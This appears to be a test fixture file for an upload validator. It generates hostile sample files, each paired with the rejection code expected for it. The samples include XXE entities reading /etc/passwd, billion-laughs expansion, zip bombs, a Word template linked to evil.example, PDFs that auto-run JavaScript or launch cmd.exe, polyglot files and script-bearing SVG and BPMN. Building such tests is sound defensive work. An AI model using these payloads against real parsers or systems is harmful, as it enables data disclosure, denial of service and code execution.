import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { pdfOf } from '#platform/server/office/reading/testing/pdf.ts'
import { sampleWord } from '#platform/server/office/reading/testing/sample.ts'
import { wordParts, zipOf } from '#platform/server/office/reading/testing/zip.ts'

export type Bad = { what: string; name: string; bytes: Buffer; keys: readonly string[] }

const said = '<w:p><w:r><w:t>One line.</w:t></w:r></w:p>'
const entity = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
const laughs = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]><l>&j;</l>`
const link = (kind: string, target: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" TargetMode="External" Target="${target}"/></Relationships>`

const book = (more: Record<string, string | Buffer> = {}) =>
  zipOf({
    '[Content_Types].xml': `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
    'xl/workbook.xml': '<workbook/>',
    ...more,
  })

/** A zip in a zip in a zip, each packed again: small outside, everything inside. */
function nested(): Buffer {
  let inner = zipOf({ 'a.bin': Buffer.alloc(100_000_000) })
  for (let depth = 0; depth < 5; depth += 1) inner = zipOf({ 'a.docx': inner, 'b.docx': inner })
  return inner
}

/** What a Word file may try. */
export function badWords(): Bad[] {
  const parts = wordParts(said)
  const word = (what: string, more: Record<string, string | Buffer>, ...keys: string[]): Bad => ({
    what: `a Word file ${what}`,
    name: 'procedure.docx',
    bytes: zipOf({ ...parts, ...more }),
    keys,
  })
  const bomb = { ...parts, 'word/media/a.bin': Buffer.alloc(160_000_000) }
  const many = Object.fromEntries(Array.from({ length: 2100 }, (_, at) => [`word/x${at}.xml`, '<a/>']))
  return [
    word('with macros', { 'word/vbaProject.bin': 'x' }, 'file-has-macros'),
    word('with entities from outside', { 'word/styles.xml': entity }, 'file-has-entities'),
    word('with a billion laughs', { 'word/document.xml': laughs }, 'file-has-entities'),
    word(
      'with a template from the net',
      { 'word/_rels/settings.xml.rels': link('attachedTemplate', 'https://evil.example/x.dotm') },
      'file-reaches-out',
    ),
    word('that carries a program', { 'word/embeddings/setup.exe': 'MZ' }, 'file-carries-others'),
    word('of thousands of parts', many, 'file-inflates'),
    word('with bombs packed into one another', { 'word/embeddings/a.docx': nested() }, 'file-inflates'),
    { what: 'a bomb', name: 'a.docx', bytes: zipOf(bomb), keys: ['file-inflates'] },
    {
      what: 'a bomb that lies about its size',
      name: 'a.docx',
      bytes: zipOf(bomb, { size: 10 }),
      keys: ['file-inflates'],
    },
    { what: 'a Word file cut off', name: 'a.docx', bytes: zipOf(parts).subarray(0, 600), keys: ['not-a-word-file'] },
  ]
}

/** What else may come as a file. */
export async function badFiles(): Promise<Bad[]> {
  const picture = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: '#c33' } })
  const small = await picture(20, 20).png().toBuffer()
  const photo = await picture(20, 20).jpeg().toBuffer()
  const pdf = (what: string, given: Parameters<typeof pdfOf>[0]): Bad => ({
    what: `a PDF ${what}`,
    name: 'a.pdf',
    bytes: pdfOf(given),
    keys: ['file-has-scripts'],
  })
  const packed = deflateSync('7 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>')
  const hidden = Buffer.concat([
    Buffer.from(`<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream'),
  ])
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><foreignObject/></svg>'
  return [
    {
      what: 'a program called PDF',
      name: 'a.pdf',
      bytes: Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0'), Buffer.alloc(600)]),
      keys: ['file-type-refused'],
    },
    {
      what: 'a page called picture',
      name: 'a.png',
      bytes: Buffer.from('<!doctype html><script>alert(1)</script>'),
      keys: ['file-type-refused'],
    },
    {
      what: 'a page that begins as text',
      name: 'a.png',
      bytes: Buffer.from('hello <script>alert(1)</script>'),
      keys: ['file-ending-differs'],
    },
    { what: 'a Word file called photo', name: 'a.jpg', bytes: await sampleWord(), keys: ['file-ending-differs'] },
    { what: 'a photo called workbook', name: 'a.xlsx', bytes: photo, keys: ['file-ending-differs'] },
    { what: 'a drawing with a script', name: 'a.svg', bytes: Buffer.from(svg), keys: ['file-type-refused'] },
    {
      what: 'a drawing behind a comment',
      name: 'a.txt',
      bytes: Buffer.from(`<!-- note -->${svg}`),
      keys: ['file-type-refused'],
    },
    { what: 'a drawing with entities', name: 'a.svg', bytes: Buffer.from(laughs), keys: ['file-type-refused'] },
    { what: 'nothing at all', name: 'a.txt', bytes: Buffer.alloc(0), keys: ['file-is-empty'] },
    { what: 'a workbook called by its macros', name: 'a.xlsm', bytes: photo, keys: ['file-has-macros'] },
    { what: 'a picture of 900 megapixels', name: 'a.png', bytes: hugePng(30_000, 30_000), keys: ['picture-too-large'] },
    {
      what: 'a picture of nothing',
      name: 'a.png',
      bytes: small.subarray(0, 20),
      keys: ['picture-unreadable', 'file-type-refused'],
    },
    {
      what: 'a picture that is an archive too',
      name: 'a.png',
      bytes: Buffer.concat([small, zipOf({ 'a.txt': 'x' })]),
      keys: ['file-is-two-kinds'],
    },
    {
      what: 'a photo that is a page too',
      name: 'a.jpg',
      bytes: Buffer.concat([photo, Buffer.from('<html><script>alert(1)</script>')]),
      keys: ['file-is-two-kinds'],
    },
    {
      what: 'a photo that is a PDF too',
      name: 'a.jpg',
      bytes: Buffer.concat([photo.subarray(0, 20), pdfOf({ text: 'x' }), photo.subarray(20)]),
      keys: ['file-is-two-kinds', 'picture-unreadable'],
    },
    {
      what: 'a PDF that is an archive too',
      name: 'a.pdf',
      bytes: Buffer.concat([pdfOf({ text: 'x' }), zipOf({ 'a.txt': 'x' })]),
      keys: ['file-is-two-kinds'],
    },
    pdf('that runs a script when it is opened', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
    pdf('with its script written in hexadecimal', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (x) >>' }),
    pdf('that starts a program', { page: '/AA << /O << /S /Launch /F (cmd.exe) >> >>' }),
    pdf('with a script packed away', { more: [hidden] }),
    {
      what: 'a PDF that is none',
      name: 'a.pdf',
      bytes: Buffer.from('%PDF-1.7\nand nothing else'),
      keys: ['file-unreadable'],
    },
    {
      what: 'a workbook with macros',
      name: 'a.xlsx',
      bytes: book({ 'xl/vbaProject.bin': 'x' }),
      keys: ['file-has-macros'],
    },
    {
      what: 'a workbook with old macros',
      name: 'a.xlsx',
      bytes: book({ 'xl/macrosheets/sheet1.xml': '<a/>' }),
      keys: ['file-has-macros'],
    },
    {
      what: 'a workbook that fetches from others',
      name: 'a.xlsx',
      bytes: book({ 'xl/externalLinks/externalLink1.xml': '<a/>' }),
      keys: ['file-reaches-out'],
    },
    {
      what: 'a workbook that asks a server',
      name: 'a.xlsx',
      bytes: book({ 'xl/connections.xml': '<a/>' }),
      keys: ['file-reaches-out'],
    },
    { what: 'an archive', name: 'a.zip', bytes: zipOf({ 'a.txt': 'x' }), keys: ['file-type-refused'] },
  ]
}

/** Some hundred bytes that say they are larger than any camera's. */
function hugePng(width: number, height: number): Buffer {
  const chunk = (kind: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(kind), data])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0])
  head.writeUInt32BE(width, 0)
  head.writeUInt32BE(height, 4)
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * 200))
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])
  return Buffer.concat([signature, chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

const bpmn = (inside: string, before = '') =>
  `<?xml version="1.0"?>${before}<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"><bpmn:process id="p"><bpmn:startEvent id="s"/>${inside}</bpmn:process></bpmn:definitions>`

/** What a map may try. */
export const badMaps: readonly { what: string; xml: string; keys: readonly string[] }[] = [
  {
    what: 'entities from outside',
    xml: bpmn('<bpmn:documentation>&x;</bpmn:documentation>', '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    keys: ['map-has-doctype'],
  },
  { what: 'a billion laughs', xml: laughs, keys: ['map-has-doctype'] },
  {
    what: 'a script task with its script',
    xml: bpmn('<bpmn:scriptTask id="t"><bpmn:script>alert(1)</bpmn:script></bpmn:scriptTask>'),
    keys: ['map-has-script'],
  },
  {
    what: 'a link that runs a script',
    xml: bpmn('<bpmn:documentation>javascript:alert(1)</bpmn:documentation>'),
    keys: ['map-has-script'],
  },
  {
    what: 'a link that runs a script, written in numbers',
    xml: bpmn('<bpmn:task id="t" name="java&#115;cript&#58;alert(1)"/>'),
    keys: ['map-has-script'],
  },
  {
    what: 'a drawing with a script',
    xml: '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    keys: ['file-is-another-kind'],
  },
  { what: 'no map at all', xml: 'MZ\u0090 not XML', keys: ['file-is-no-xml'] },
  {
    what: 'elements in one another by the thousand',
    xml: bpmn(`${'<bpmn:subProcess>'.repeat(9000)}${'</bpmn:subProcess>'.repeat(9000)}`),
    keys: ['map-too-deep'],
  },
]
